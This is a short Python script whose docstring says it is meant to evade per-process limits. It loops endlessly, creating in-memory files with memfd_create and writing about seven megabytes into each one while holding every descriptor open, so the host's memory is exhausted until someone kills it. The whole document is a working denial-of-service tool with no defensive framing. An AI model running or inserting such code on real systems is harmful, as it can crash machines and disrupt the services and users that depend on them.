"""Fills open memory files, which no limit of a process counts, until somebody ends it."""

import os

held = []
while True:
    held.append(os.memfd_create("hog"))
    for _ in range(7):
        os.write(held[-1], b"x" * 2**20)
